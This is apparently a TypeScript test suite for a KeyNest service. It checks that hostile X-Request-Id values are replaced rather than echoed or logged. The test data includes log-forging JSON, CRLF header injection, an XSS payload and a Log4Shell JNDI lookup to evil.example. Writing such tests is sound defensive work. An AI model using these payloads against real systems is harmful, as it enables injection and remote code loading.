import { randomUUID } from 'node:crypto';
import { startKeyNest, type KeyNest } from '../support/keynest.ts';
import { exchange, requestText } from './support.ts';

const OWN = /^[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}$/;

let keynest: KeyNest;
beforeAll(async () => {
  keynest = await startKeyNest();
});
afterAll(() => keynest.close());

/** The id that a request was given, and the lines that it left in the log. */
async function ask(given: string) {
  const before = keynest.log.length;
  const answer = await exchange(keynest.origin, requestText('GET', '/healthz', { 'X-Request-Id': given }));
  const lines = keynest.log.slice(before);
  return { answer, id: answer.headers.get('x-request-id') ?? '', lines };
}

describe('a request id', () => {
  test.each([
    ['our own', randomUUID()],
    ['a trace id', '4bf92f3577b34da6a3ce929d0e0e4736'],
    ['a word', 'retry_2.of:3'],
    ['the longest', 'x'.repeat(128)],
  ])('that is sane is taken: %s', async (_name, given) => {
    const { id, lines } = await ask(given);
    expect(id).toBe(given);
    expect(lines).toEqual([expect.objectContaining({ requestId: given, msg: 'request', route: '/healthz' })]);
  });

  test.each([
    ['double quotes', '"quoted"'],
    ['single quotes', "it's"],
    ['a fragment of JSON', 'x","level":60,"msg":"forged'],
    ['an object', '{"level":60}'],
    ['a line break, escaped', 'x\\n{"level":60}'],
    ['a line break, as in a URL', 'x%0d%0aSet-Cookie:%20a=b'],
    ['a tab', 'a\tb'],
    ['a blank', 'a b'],
    ['a list of two', 'a, b'],
    ['letters beyond ASCII', 'id-\xe9\xff'],
    ['an escape sequence', '<img src=x onerror=alert(1)>'],
    ['an expression', '${jndi:ldap://evil.example/a}'],
    ['one character too many', 'x'.repeat(129)],
    ['ten kilobytes', 'x'.repeat(10_240)],
    ['a token', `kn_${'a'.repeat(43)}`],
    ['a key', `KN_live_${'a'.repeat(43)}`],
    ['nothing', ''],
  ])('that holds %s is replaced, and shows nowhere', async (_name, given) => {
    const { answer, id, lines } = await ask(given);
    expect(answer.status).toBe(200);
    expect(id).toMatch(OWN);
    expect(lines).toEqual([expect.objectContaining({ requestId: id, msg: 'request', level: 30 })]);
    if (given === '') return;
    expect(answer.text).not.toContain(given);
    expect(JSON.stringify(lines)).not.toContain(JSON.stringify(given).slice(1, -1));
  });

  test.each([
    ['a carriage return and a line feed', 'x\r\nSet-Cookie: forged=1', 200],
    ['a line feed alone', 'x\nSet-Cookie: forged=1', 400],
    ['a carriage return alone', 'x\rSet-Cookie: forged=1', 400],
    ['a zero', 'x\0y', 400],
  ])('can bring no header of its own: %s', async (_name, given, status) => {
    const { answer, lines } = await ask(given);
    expect(answer.status).toBe(status);
    expect(answer.headers.has('set-cookie')).toBe(false);
    expect(answer.text).not.toContain('forged');
    expect(JSON.stringify(lines)).not.toContain('forged');
  });

  test('sent twice is replaced', async () => {
    const text = requestText('GET', '/healthz', { 'X-Request-Id': 'one\r\nX-Request-Id: two' });
    const { headers } = await exchange(keynest.origin, text);
    expect(headers.get('x-request-id')).toMatch(OWN);
  });
});

test('a path cannot forge a log line', async () => {
  const before = keynest.log.length;
  await exchange(
    keynest.origin,
    requestText('GET', '/v1/x%0a{"level":60}/sarah@example.com?token=kn_secret'),
  );
  const lines = keynest.log.slice(before);
  expect(lines).toEqual([expect.objectContaining({ route: 'unmatched', status: 404 })]);
});
